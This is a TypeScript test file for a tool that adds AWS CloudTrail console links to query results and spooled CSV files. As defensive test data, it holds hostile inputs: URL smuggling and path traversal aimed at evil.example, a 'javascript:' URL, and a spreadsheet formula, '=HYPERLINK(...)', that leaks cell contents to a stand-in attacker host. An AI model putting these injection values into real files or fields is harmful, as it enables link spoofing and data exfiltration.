import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { collectResults } from '../../src/runner/collect';
import { consoleEventUrl, consoleLinkColumn, isConsoleEventUrl } from '../../src/util/console-link';
import { parseCsv } from '../../src/util/csv';
import { ScriptedEngine } from '../helpers/scripted-engine';

const GOOD = { eventId: '3f0e6c5a-9b1d-4c2e-8f7a-1b2c3d4e5f60', region: 'eu-west-1', account: '111122223333' };

describe('consoleEventUrl', () => {
  it('links a well-formed event to its Event history page in its region', () => {
    expect(consoleEventUrl(GOOD)).toBe(
      'https://eu-west-1.console.aws.amazon.com/cloudtrailv2/home?region=eu-west-1#/events/3f0e6c5a-9b1d-4c2e-8f7a-1b2c3d4e5f60',
    );
    expect(isConsoleEventUrl(consoleEventUrl(GOOD))).toBe(true);
  });

  it.each([
    ['an event id that is not a UUID', { eventId: '3f0e6c5a-9b1d-4c2e-8f7a-1b2c3d4e5f6' }],
    ['an event id carrying a second URL', { eventId: `${GOOD.eventId}?x=https://evil.example` }],
    ['an event id with a Slack link', { eventId: '<https://evil.example|3f0e6c5a-9b1d-4c2e-8f7a-1b2c3d4e5f60>' }],
    ['an event id with a line break', { eventId: `${GOOD.eventId}\n` }],
    ['a region that names another host', { region: 'evil.example/x' }],
    ['a region with a path', { region: 'eu-west-1/../../' }],
    ['an anonymised region (real records: us-north-2r)', { region: 'us-north-2r' }],
    ['a China region (another console domain)', { region: 'cn-north-1' }],
    ['a GovCloud region (another console domain)', { region: 'us-gov-west-1' }],
    ['an account of 11 digits', { account: '11112222333' }],
    ['an account with letters', { account: '11112222333a' }],
    ['a missing account', { account: null }],
    ['a missing event id', { eventId: null }],
  ])('builds no link for %s', (_what, bad) => {
    expect(consoleEventUrl({ ...GOOD, ...bad })).toBeUndefined();
  });

  it('accepts only the exact shape it builds when reading a link back', () => {
    const url = consoleEventUrl(GOOD)!;
    expect(isConsoleEventUrl(url)).toBe(true);
    expect(isConsoleEventUrl(`${url}x`)).toBe(false);
    expect(isConsoleEventUrl(url.replace('https://eu-west-1.', 'https://evil.example/'))).toBe(false);
    expect(isConsoleEventUrl(url.replace('region=eu-west-1', 'region=us-east-1'))).toBe(false);
    expect(isConsoleEventUrl('javascript:alert(1)')).toBe(false);
    expect(isConsoleEventUrl(null)).toBe(false);
  });
});

describe('consoleLinkColumn', () => {
  it('adds console_url only when the result has event id, region and account', () => {
    expect(consoleLinkColumn(['eventname', 'eventid', 'awsregion']).columns).toEqual([
      'eventname',
      'eventid',
      'awsregion',
    ]);
    const links = consoleLinkColumn(['eventid', 'awsregion', 'recipientaccountid']);
    expect(links.columns).toEqual(['eventid', 'awsregion', 'recipientaccountid', 'console_url']);
    expect(links.extend([GOOD.eventId, GOOD.region, GOOD.account])[3]).toBe(consoleEventUrl(GOOD));
    expect(links.extend(['not-a-uuid', GOOD.region, GOOD.account])[3]).toBeNull();
  });
});

describe('the spooled CSV', () => {
  let dir: string;
  beforeEach(() => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'trail-console-link-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('has a console_url column whose values are links only for well-formed records', async () => {
    const engine = new ScriptedEngine();
    engine.pageSize = 2;
    engine.columns = ['eventtime', 'eventname', 'awsregion', 'recipientaccountid', 'eventid'];
    const hostileId = '=HYPERLINK("https://evil.example/?"&A1,"open")';
    engine.rows = [
      ['2026-11-30T09:14:16Z', 'AuthorizeSecurityGroupIngress', 'eu-west-1', '111122223333', GOOD.eventId],
      ['2026-11-30T09:15:00Z', 'CreateUser', 'eu-west-1', '111122223333', hostileId],
      ['2026-11-30T09:16:00Z', 'StopLogging', 'evil.example#', '111122223333', GOOD.eventId],
      ['2026-11-30T09:17:00Z', 'DeleteTrail', 'us-east-1', '444455556666', 'a1b2c3d4-0000-4000-8000-0123456789ab'],
    ];
    const id = await engine.start({} as never, { executionId: 'x' });
    const files = { csv: path.join(dir, 'r.csv'), summary: path.join(dir, 'r.summary.json') };
    const summary = await collectResults(engine, id, files);

    const [header, ...rows] = parseCsv(readFileSync(files.csv, 'utf8'));
    expect(header).toEqual([...engine.columns, 'console_url']);
    const urls = rows.map((r) => r[header!.indexOf('console_url')]);
    expect(urls).toEqual([
      consoleEventUrl(GOOD),
      '', // the hostile event id: no link (and its own cell is defused by the formula mark)
      '', // the hostile region: no link
      'https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/a1b2c3d4-0000-4000-8000-0123456789ab',
    ]);
    for (const u of urls) if (u !== '') expect(new URL(u!).hostname).toMatch(/^[a-z0-9-]+\.console\.aws\.amazon\.com$/);
    expect(rows[1]![4]).toBe(`'${hostileId}`);
    // The table in the thread gets the same column.
    expect(summary.columns).toEqual(header);
    expect(summary.topRows[1]![5]).toBeNull();
  });

  it('adds no column to an aggregate result (no event id)', async () => {
    const engine = new ScriptedEngine();
    engine.columns = ['errorcode', 'total_events'];
    engine.rows = [['AccessDenied', '12']];
    const id = await engine.start({} as never, { executionId: 'y' });
    const files = { csv: path.join(dir, 'a.csv'), summary: path.join(dir, 'a.summary.json') };
    const summary = await collectResults(engine, id, files);
    expect(summary.columns).toEqual(['errorcode', 'total_events']);
    expect(parseCsv(readFileSync(files.csv, 'utf8'))[0]).toEqual(['errorcode', 'total_events']);
  });
});
